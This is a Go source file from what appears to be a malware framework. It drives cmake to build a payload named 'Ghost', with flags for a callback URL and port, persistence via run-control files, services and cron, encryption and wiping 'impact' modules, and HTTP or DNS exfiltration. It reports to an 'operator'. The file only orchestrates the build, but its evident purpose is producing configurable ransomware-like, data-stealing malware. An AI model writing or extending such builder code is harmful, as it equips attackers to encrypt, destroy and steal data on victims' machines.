// Package builder drives the cmake toolchain that produces a ghost payload.
package builder

import (
	"context"
	"errors"
	"fmt"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"time"

	"github.com/google/uuid"
	"github.com/rs/zerolog"

	"github.com/jask/charon/internal/config"
	"github.com/jask/charon/internal/core"
)

var (
	ErrConfigure = errors.New("cmake configure failed")
	ErrBuild     = errors.New("cmake build failed")
)

// Runner executes one external program and returns its combined output.
type Runner interface {
	Run(ctx context.Context, name string, args ...string) ([]byte, error)
}

// ExecRunner runs programs with os/exec.
type ExecRunner struct{}

func (ExecRunner) Run(ctx context.Context, name string, args ...string) ([]byte, error) {
	return exec.CommandContext(ctx, name, args...).CombinedOutput()
}

// Builder configures and compiles the payload tree.
type Builder struct {
	cfg config.BuilderConfig
	run Runner
	log zerolog.Logger
}

// New returns a builder. A nil run uses ExecRunner.
func New(cfg config.BuilderConfig, run Runner, log zerolog.Logger) *Builder {
	if run == nil {
		run = ExecRunner{}
	}
	if cfg.CMake == "" {
		cfg.CMake = "cmake"
	}
	if cfg.Config == "" {
		cfg.Config = "Release"
	}
	return &Builder{cfg: cfg, run: run, log: log.With().Str("component", "builder").Logger()}
}

// Build runs the configure step then the build step. It returns the success
// line shown to the operator.
func (b *Builder) Build(ctx context.Context, opts core.BuildOptions) (string, error) {
	if b.cfg.Timeout > 0 {
		var cancel context.CancelFunc
		ctx, cancel = context.WithTimeout(ctx, b.cfg.Timeout)
		defer cancel()
	}

	log := b.log.With().Str("build_id", uuid.NewString()).Logger()
	start := time.Now()
	buildDir := b.cfg.BuildPath()

	log.Info().
		Str("target", opts.TargetURL).
		Int("port", opts.TargetPort).
		Str("build_dir", buildDir).
		Msg("build started")

	if out, err := b.run.Run(ctx, b.cfg.CMake, ConfigureArgs(b.cfg.SourceDir, buildDir, opts)...); err != nil {
		log.Error().Err(err).Str("output", tail(out)).Msg("configure failed")
		return "", stepError(ErrConfigure, err, out)
	}
	if out, err := b.run.Run(ctx, b.cfg.CMake, "--build", buildDir, "--config", b.cfg.Config); err != nil {
		log.Error().Err(err).Str("output", tail(out)).Msg("build failed")
		return "", stepError(ErrBuild, err, out)
	}

	artifact := filepath.Join(buildDir, "bin", "Ghost")
	log.Info().Dur("took", time.Since(start)).Str("artifact", artifact).Msg("build finished")
	return fmt.Sprintf("Payload built successfully at %s", artifact), nil
}

// ConfigureArgs is the cmake configure command line for opts.
func ConfigureArgs(sourceDir, buildDir string, opts core.BuildOptions) []string {
	return []string{
		"-S", sourceDir,
		"-B", buildDir,
		"-DSHADOW_URL=" + opts.TargetURL,
		"-DSHADOW_PORT=" + strconv.Itoa(opts.TargetPort),
		"-DENABLE_DEBUG=" + onOff(opts.Debug),
		"-DENABLE_PERSISTENCE=" + onOff(opts.Persistence),
		"-DPERSIST_RUNCONTROL=" + onOff(opts.PersistRunControl),
		"-DPERSIST_SERVICE=" + onOff(opts.PersistService),
		"-DPERSIST_CRON=" + onOff(opts.PersistCron),
		"-DENABLE_IMPACT=" + onOff(opts.Impact),
		"-DIMPACT_ENCRYPT=" + onOff(opts.ImpactEncrypt),
		"-DIMPACT_WIPE=" + onOff(opts.ImpactWipe),
		"-DENABLE_EXFIL=" + onOff(opts.Exfil),
		"-DEXFIL_HTTP=" + onOff(opts.ExfilHTTP),
		"-DEXFIL_DNS=" + onOff(opts.ExfilDNS),
	}
}

func onOff(b bool) string {
	if b {
		return "ON"
	}
	return "OFF"
}

func stepError(step, err error, out []byte) error {
	if t := tail(out); t != "" {
		return fmt.Errorf("%w: %v: %s", step, err, t)
	}
	return fmt.Errorf("%w: %v", step, err)
}

// tail keeps the last non-empty line of tool output; that is where cmake
// puts the actual error.
func tail(out []byte) string {
	lines := strings.Split(strings.TrimSpace(string(out)), "\n")
	for i := len(lines) - 1; i >= 0; i-- {
		if l := strings.TrimSpace(lines[i]); l != "" {
			return l
		}
	}
	return ""
}
